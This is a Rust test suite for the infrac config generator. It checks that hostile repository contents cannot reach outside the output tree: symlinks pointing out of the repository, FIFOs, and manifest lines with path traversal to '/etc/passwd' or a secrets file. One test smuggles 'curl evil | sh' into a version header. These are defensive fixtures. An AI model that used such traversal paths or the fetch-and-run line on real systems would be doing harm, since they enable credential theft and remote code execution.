//! The filesystem trust boundary, end to end: a copy of the example platform in a temp
//! directory whose `golden/`, manifest and inputs a hostile pull request has changed, beside
//! a "victim" directory outside the repository that must survive byte-identical. Exit codes
//! and rendered diagnostics are asserted exactly (the temp directory shows as `<root>`).

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

#[path = "../fuzz/support/golden_harness.rs"]
mod golden_harness;

const SECRET: &str = "AKIAIOSFODNN7EXAMPLE top secret\n";
const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n";
const DEPLOYMENT: &str = "golden/kubernetes/payment-service/base/resources.yaml";

struct Repo {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    victim: PathBuf,
    victim_before: BTreeMap<PathBuf, Vec<u8>>,
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// Every entry under `dir`, links recorded as their target text, never followed.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    for entry in walkdir::WalkDir::new(dir)
        .follow_links(false)
        .sort_by_file_name()
    {
        let entry = entry.unwrap();
        let rel = entry.path().strip_prefix(dir).unwrap().to_path_buf();
        let t = entry.file_type();
        let bytes = if t.is_symlink() {
            let target = fs::read_link(entry.path()).unwrap();
            format!("-> {}", target.display()).into_bytes()
        } else if t.is_file() {
            fs::read(entry.path()).unwrap()
        } else if t.is_dir() {
            b"<dir>".to_vec()
        } else {
            b"<special>".to_vec()
        };
        out.insert(rel, bytes);
    }
    out
}

impl Repo {
    fn new() -> Self {
        let example = Path::new(env!("CARGO_MANIFEST_DIR"));
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("repo");
        let victim = tmp.path().join("victim");
        fs::create_dir_all(&root).unwrap();
        for file in ["registry.yaml", "versions.yaml"] {
            fs::copy(example.join(file), root.join(file)).unwrap();
        }
        for dir in ["environments", "golden"] {
            copy_dir(&example.join(dir), &root.join(dir));
        }
        fs::create_dir_all(root.join(".git")).unwrap();
        fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
        // The victim: a copy of the golden tree (so a write through a link would "succeed")
        // and a secret.
        copy_dir(&example.join("golden"), &victim);
        fs::write(victim.join("secret.txt"), SECRET).unwrap();
        fs::write(victim.join("passwd"), PASSWD).unwrap();
        let victim_before = snapshot(&victim);
        Repo {
            _tmp: tmp,
            root,
            victim,
            victim_before,
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }

    fn link(&self, rel: &str, target: &Path) {
        let path = self.path(rel);
        if path.is_dir() && !path.is_symlink() {
            fs::remove_dir_all(&path).unwrap();
        } else {
            let _ = fs::remove_file(&path);
        }
        std::os::unix::fs::symlink(target, path).unwrap();
    }

    fn append_manifest(&self, lines: &[(&[u8], &str)]) {
        let path = self.path("golden/.infrac-manifest");
        let mut text = fs::read_to_string(&path).unwrap();
        for (contents, key) in lines {
            text.push_str(&format!("{}  {key}\n", sha256(contents)));
        }
        fs::write(path, text).unwrap();
    }

    /// Runs infrac; `(exit code, stdout, stderr)` with the temp directory as `<root>`.
    fn run_with(&self, args: &[&str], limit_file_size: Option<u64>) -> (i32, String, String) {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_infrac"));
        cmd.arg("--root")
            .arg(&self.root)
            .args(args)
            .env("NO_COLOR", "1")
            .env_remove("GITHUB_ACTIONS")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if let Some(limit) = limit_file_size {
            use std::os::unix::process::CommandExt as _;
            // SAFETY: only async-signal-safe calls between fork and exec.
            unsafe {
                cmd.pre_exec(move || {
                    libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
                    let lim = libc::rlimit {
                        rlim_cur: limit,
                        rlim_max: limit,
                    };
                    libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
                    Ok(())
                });
            }
        }
        let mut child = cmd.spawn().unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        while child.try_wait().unwrap().is_none() {
            if Instant::now() > deadline {
                child.kill().unwrap();
                panic!("infrac {args:?} hung");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let out = child.wait_with_output().unwrap();
        let clean = |b: &[u8]| {
            let text = String::from_utf8_lossy(b).into_owned();
            text.replace(&self.root.display().to_string(), "<root>")
        };
        let (stdout, stderr) = (clean(&out.stdout), clean(&out.stderr));
        assert!(!stderr.contains("panicked"), "{stderr}");
        (out.status.code().unwrap_or(-1), stdout, stderr)
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        self.run_with(args, None)
    }

    fn assert_victim_intact(&self) {
        assert_eq!(snapshot(&self.victim), self.victim_before, "victim changed");
    }
}

fn sha256(bytes: &[u8]) -> String {
    infrac::output::manifest::hash_hex(bytes)
}

/// build, plan and check all refuse with `expected` on stderr, exit 1, and change nothing.
fn assert_all_refuse(repo: &Repo, expected: &str) {
    let before = snapshot(&repo.root);
    for args in [
        &["build"][..],
        &["plan"],
        &["plan", "--format", "markdown"],
        &["plan", "--format", "json"],
        &["check"],
    ] {
        let (code, stdout, stderr) = repo.run(args);
        assert_eq!((code, stdout.as_str()), (1, ""), "{args:?}: {stderr}");
        assert_eq!(stderr, expected, "{args:?}");
        assert!(!stderr.contains("AKIA") && !stderr.contains("root:x"));
    }
    assert_eq!(snapshot(&repo.root), before, "the repository changed");
    repo.assert_victim_intact();
}

#[test]
fn manifest_lines_outside_the_owned_roots_delete_nothing() {
    let repo = Repo::new();
    let registry = fs::read(repo.path("registry.yaml")).unwrap();
    let git = fs::read(repo.path(".git/config")).unwrap();
    repo.append_manifest(&[
        (&registry, "registry.yaml"),
        (&git, ".git/config"),
        (&registry, "../x"),
        (&registry, "golden/../registry.yaml"),
        (&registry, "golden/./a"),
        (&registry, "/etc/passwd"),
        (&registry, "golden\\x"),
        (SECRET.as_bytes(), "../victim/secret.txt"),
    ]);
    insta::assert_snapshot!("manifest_outside_roots", refusal(&repo));
}

/// The stderr every command gives (checked identical across commands).
fn refusal(repo: &Repo) -> String {
    let (_, _, stderr) = repo.run(&["build"]);
    assert_all_refuse(repo, &stderr);
    stderr
}

#[test]
fn golden_itself_a_symlink_is_refused() {
    let repo = Repo::new();
    repo.link("golden", &repo.victim);
    insta::assert_snapshot!("golden_is_a_link", refusal(&repo));
}

#[test]
fn a_generated_directory_replaced_by_a_symlink_is_refused() {
    let repo = Repo::new();
    repo.link("golden/kubernetes", &repo.victim.join("kubernetes"));
    // Make the target differ, so a build through the link would write there.
    let v = repo
        .victim
        .join("kubernetes/payment-service/base/resources.yaml");
    fs::write(&v, "changed: true\n").unwrap();
    let repo = Repo {
        victim_before: snapshot(&repo.victim),
        ..repo
    };
    insta::assert_snapshot!("generated_dir_is_a_link", refusal(&repo));
}

#[test]
fn a_link_out_with_a_manifest_line_under_it_deletes_nothing() {
    let repo = Repo::new();
    repo.link("golden/evil", &repo.victim);
    repo.append_manifest(&[(SECRET.as_bytes(), "golden/evil/secret.txt")]);
    insta::assert_snapshot!("evil_link_in_manifest", refusal(&repo));
}

#[test]
fn a_generated_file_linked_to_a_secret_is_never_read() {
    let repo = Repo::new();
    repo.link(DEPLOYMENT, &repo.victim.join("secret.txt"));
    insta::assert_snapshot!("generated_file_is_a_link", refusal(&repo));
}

#[test]
fn a_generated_file_linked_to_dev_zero_is_never_read() {
    let repo = Repo::new();
    repo.link(DEPLOYMENT, Path::new("/dev/zero"));
    let stderr = refusal(&repo);
    assert!(stderr.contains("infrac::symlink-in-output"), "{stderr}");
}

#[test]
fn a_fifo_at_a_generated_path_does_not_hang() {
    let repo = Repo::new();
    fs::remove_file(repo.path(DEPLOYMENT)).unwrap();
    let c = std::ffi::CString::new(repo.path(DEPLOYMENT).to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    insta::assert_snapshot!("fifo_at_generated_path", refusal(&repo));
}

#[test]
fn an_environment_file_linked_outside_the_repository_is_refused() {
    let repo = Repo::new();
    repo.link("environments/dev.yaml", &repo.victim.join("passwd"));
    let before = snapshot(&repo.root);
    let (code, stdout, stderr) = repo.run(&["validate"]);
    assert_eq!((code, stdout.as_str()), (1, ""));
    assert!(!stderr.contains("root:x"), "{stderr}");
    insta::assert_snapshot!("environment_link_outside", stderr);
    let (code, _, build_err) = repo.run(&["build"]);
    assert_eq!((code, build_err.contains("root:x")), (1, false));
    assert_eq!(snapshot(&repo.root), before);
    repo.assert_victim_intact();
}

#[test]
fn an_environment_link_inside_the_repository_is_followed() {
    let repo = Repo::new();
    fs::create_dir_all(repo.path("shared")).unwrap();
    fs::rename(
        repo.path("environments/dev.yaml"),
        repo.path("shared/dev.yaml"),
    )
    .unwrap();
    repo.link("environments/dev.yaml", Path::new("../shared/dev.yaml"));
    let (code, stdout, stderr) = repo.run(&["check"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(stdout, "golden tree is fresh: 257 files\n");
}

#[test]
fn a_fifo_as_an_environment_file_does_not_hang() {
    let repo = Repo::new();
    let c = std::ffi::CString::new(repo.path("environments/qa.yaml").to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    let (code, _, stderr) = repo.run(&["validate"]);
    assert_eq!(code, 1);
    insta::assert_snapshot!("environment_fifo", stderr);
}

/// What `build` says on the example, whose GitHub workflows stay in `golden/ci/github` (it has
/// no `[output]` move), where GitHub never runs them.
const UNREAD_WORKFLOWS: &str = "warning: the GitHub Actions workflows are in golden/ci/github (GitHub runs only .github/workflows/*.yml); to put them where they run, add to infrac.toml:\n  [output]\n  github = \".github/workflows\"\n";

/// A repository whose infrac.toml names `overrides/` as its template directory, and a
/// template outside the repository (in the victim) that would print the secret.
fn repo_with_template_overrides() -> Repo {
    let repo = Repo::new();
    fs::write(repo.path("infrac.toml"), "templates = \"overrides\"\n").unwrap();
    let outside = repo.victim.join("templates/ci/github");
    fs::create_dir_all(&outside).unwrap();
    fs::write(
        outside.join("infrac-check.yml.j2"),
        format!("# {SECRET}name: check\n"),
    )
    .unwrap();
    Repo {
        victim_before: snapshot(&repo.victim),
        ..repo
    }
}

#[test]
fn a_template_directory_linked_outside_the_repository_is_refused() {
    let repo = repo_with_template_overrides();
    repo.link("overrides", &repo.victim.join("templates"));
    insta::assert_snapshot!("template_dir_is_a_link", refusal(&repo));
}

#[test]
fn a_template_file_linked_outside_the_repository_is_refused() {
    let repo = repo_with_template_overrides();
    fs::create_dir_all(repo.path("overrides/ci/github")).unwrap();
    repo.link(
        "overrides/ci/github/infrac-check.yml.j2",
        &repo.victim.join("templates/ci/github/infrac-check.yml.j2"),
    );
    // A directory linked out, and a FIFO: refused too, never entered or opened.
    repo.link("overrides/linked", &repo.victim.join("templates"));
    let c = std::ffi::CString::new(repo.path("overrides/pipe.j2").to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    insta::assert_snapshot!("template_file_is_a_link", refusal(&repo));
}

#[test]
fn a_drifted_stale_file_is_kept_and_reported() {
    let repo = Repo::new();
    let key = "golden/kubernetes/notes.yaml";
    fs::write(repo.path(key), "mine: true\n").unwrap();
    repo.append_manifest(&[(b"generated: once\n", key)]);
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(code, 1);
    insta::assert_snapshot!("drifted_stale_check", stdout);
    let (code, stdout, stderr) = repo.run(&["build"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "built golden: 0 written, 257 unchanged, 0 deleted\n")
    );
    assert_eq!(
        stderr,
        format!(
            "warning: kept `golden/kubernetes/notes.yaml`: infrac no longer generates it, but it was changed since infrac wrote it, so it is yours now; delete it if you do not need it\n{UNREAD_WORKFLOWS}"
        )
    );
    assert_eq!(fs::read_to_string(repo.path(key)).unwrap(), "mine: true\n");
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "golden tree is fresh: 257 files\n")
    );
}

#[test]
fn a_stale_file_that_still_matches_is_deleted() {
    let repo = Repo::new();
    let key = "golden/kubernetes/old.yaml";
    fs::write(repo.path(key), "generated: once\n").unwrap();
    repo.append_manifest(&[(b"generated: once\n", key)]);
    let (code, stdout, stderr) = repo.run(&["build"]);
    assert_eq!(
        (code, stdout.as_str(), stderr.as_str()),
        (
            0,
            "built golden: 0 written, 257 unchanged, 1 deleted\n",
            UNREAD_WORKFLOWS
        )
    );
    assert!(!repo.path(key).exists());
}

#[test]
fn a_held_lock_refuses_a_second_build() {
    let repo = Repo::new();
    let lock = infrac::output::lock::BuildLock::acquire(&repo.root, "golden").unwrap();
    let (code, stdout, stderr) = repo.run(&["build"]);
    let expected = format!(
        "error: another `infrac build` (pid {}) holds `golden/.infrac-lock`; wait for it to finish, then build again\n",
        std::process::id()
    );
    assert_eq!(
        (code, stdout.as_str(), stderr.as_str()),
        (1, "", expected.as_str())
    );
    drop(lock);
    assert!(!repo.path("golden/.infrac-lock").exists());
    let (code, _, _) = repo.run(&["build"]);
    assert_eq!(code, 0);
    assert!(!repo.path("golden/.infrac-lock").exists());
}

#[test]
fn leftovers_of_a_killed_build_are_reported_then_cleaned() {
    let repo = Repo::new();
    fs::write(repo.path("golden/.infrac-lock"), "999999\n").unwrap();
    let tmp = "golden/kubernetes/payment-service/base/.infrac-tmp-Ab12Cd";
    fs::write(repo.path(tmp), "half").unwrap();
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(code, 1);
    insta::assert_snapshot!("leftovers_check", stdout);
    let (code, stdout, stderr) = repo.run(&["build"]);
    assert_eq!(
        (code, stdout.as_str(), stderr.as_str()),
        (
            0,
            "built golden: 0 written, 257 unchanged, 0 deleted\n",
            UNREAD_WORKFLOWS
        )
    );
    assert!(!repo.path(tmp).exists() && !repo.path("golden/.infrac-lock").exists());
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "golden tree is fresh: 257 files\n")
    );
}

#[test]
fn a_build_that_fails_while_staging_leaves_the_old_tree() {
    let repo = Repo::new();
    // Two edits: a small overlay (staged first) and ten ~6 KB bases, which a 6,000-byte file
    // size limit makes fail mid-write, as a full disk would.
    let edit = |file: &str, from: &str, to: &str| {
        let text = fs::read_to_string(repo.path(file)).unwrap();
        assert!(text.contains(from));
        fs::write(repo.path(file), text.replacen(from, to, 1)).unwrap();
    };
    edit(
        "versions.yaml",
        "api-gateway: v2.2.1",
        "api-gateway: v2.2.2",
    );
    edit(
        "registry.yaml",
        "{min: 2, max: 6, targetCPU: 70}",
        "{min: 2, max: 7, targetCPU: 70}",
    );
    let before = snapshot(&repo.root);
    let (code, stdout, stderr) = repo.run_with(&["build"], Some(6000));
    assert_eq!((code, stdout.as_str()), (3, ""));
    // The prefix is the command layer's (`infrac: … error: `); the message is the writer's.
    let message = "cannot write <root>/golden/kubernetes/clearing-bankserv-service/base/resources.yaml: File too large (os error 27)\n";
    assert!(
        stderr.ends_with(message) && stderr.lines().count() == 1,
        "{stderr}"
    );
    assert_eq!(
        snapshot(&repo.root),
        before,
        "the old tree, no temp file left"
    );
    let (code, _, _) = repo.run(&["build"]);
    assert_eq!(code, 0);
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "golden tree is fresh: 257 files\n")
    );
}

/// Every code about the output tree has a case here (the invalid-input corpus covers the rest).
#[test]
fn every_output_code_has_a_case() {
    let this = include_str!("trust.rs");
    let snapshots = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/snapshots");
    for code in infrac::diagnostic::Code::OUTPUT {
        let found = fs::read_dir(&snapshots).unwrap().any(|e| {
            let e = e.unwrap();
            let name = e.file_name().to_string_lossy().into_owned();
            name.starts_with("trust__")
                && fs::read_to_string(e.path())
                    .unwrap()
                    .contains(code.as_str())
                && this.contains(&name["trust__".len()..name.len() - ".snap".len()])
        });
        assert!(found, "{} has no snapshot in tests/trust.rs", code.as_str());
    }
}

/// A tree another infrac version generated is stale for this one, even when every file
/// matches; `build` records this version and `check` is fresh again. A version that is not
/// version-shaped (the checkout is untrusted) is never suggested as a command.
#[test]
fn a_tree_generated_by_another_version_fails_check() {
    let repo = Repo::new();
    let manifest = repo.path("golden/.infrac-manifest");
    let ours = fs::read_to_string(&manifest).unwrap();
    let this = format!("# generator: infrac {}\n", env!("CARGO_PKG_VERSION"));
    assert!(ours.contains(&this), "{ours}");
    let mut seen = Vec::new();
    for other in [
        "# generator: infrac 0.0.9\n",
        "# generator: infrac 0.1.0; curl evil | sh\n",
        "",
    ] {
        fs::write(&manifest, ours.replace(&this, other)).unwrap();
        let (code, stdout, stderr) = repo.run(&["check"]);
        assert_eq!((code, stdout.as_str()), (1, ""), "{other:?}");
        assert!(!stderr.contains("pip install infrac==0.1.0;"), "{stderr}");
        seen.push(stderr);
    }
    insta::assert_snapshot!("generator_version_check", seen.join("\n---\n"));
    let (code, stdout, _) = repo.run(&["build"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "built golden: 0 written, 257 unchanged, 0 deleted\n")
    );
    assert_eq!(fs::read_to_string(&manifest).unwrap(), ours);
    let (code, stdout, _) = repo.run(&["check"]);
    assert_eq!(
        (code, stdout.as_str()),
        (0, "golden tree is fresh: 257 files\n")
    );
    repo.assert_victim_intact();
}

/// The `golden_manifest` fuzz target's body over a generated corpus (the same inputs every
/// run): hostile manifests and output trees through the manifest parser, `plan` and the
/// build's write/keep/delete decision. `INFRAC_FUZZ_CASES` sets the count (default 600);
/// the figures go to stderr (`--nocapture`).
#[test]
fn golden_and_manifest_inputs_never_reach_outside_the_output() {
    let cases: u64 = std::env::var("INFRAC_FUZZ_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(600);
    let started = Instant::now();
    let mut rng = golden_harness::Gen::new(13);
    let mut total = golden_harness::Outcome::default();
    let (mut plans, mut builds) = (0, 0);
    for i in 0..cases {
        let input = golden_harness::generate(&mut rng);
        let outcome = std::panic::catch_unwind(|| golden_harness::run(&input))
            .unwrap_or_else(|_| panic!("case {i} failed; input: {input:?}"));
        total.manifest_lines += outcome.manifest_lines;
        total.manifest_accepted += outcome.manifest_accepted;
        total.manifest_refused += outcome.manifest_refused;
        total.entries_created += outcome.entries_created;
        total.links_created += outcome.links_created;
        total.written += outcome.written;
        total.deleted += outcome.deleted;
        total.kept += outcome.kept;
        total.cleaned += outcome.cleaned;
        plans += usize::from(outcome.plan_ok);
        builds += usize::from(outcome.build_ok);
    }
    eprintln!(
        "golden/manifest corpus: {cases} inputs in {:.1} s; manifest lines {}, accepted {}, refused {}; tree entries {} (links {}); plan ok {plans}; build ok {builds} (written {}, deleted {}, kept {}, temp files cleaned {}); findings 0",
        started.elapsed().as_secs_f64(),
        total.manifest_lines,
        total.manifest_accepted,
        total.manifest_refused,
        total.entries_created,
        total.links_created,
        total.written,
        total.deleted,
        total.kept,
        total.cleaned,
    );
    // Every kind of entry and both outcomes of a build must have been reached.
    assert!(total.links_created > 0 && total.manifest_refused > 0 && total.deleted > 0);
    assert!(builds > 0 && (builds as u64) < cases);
}
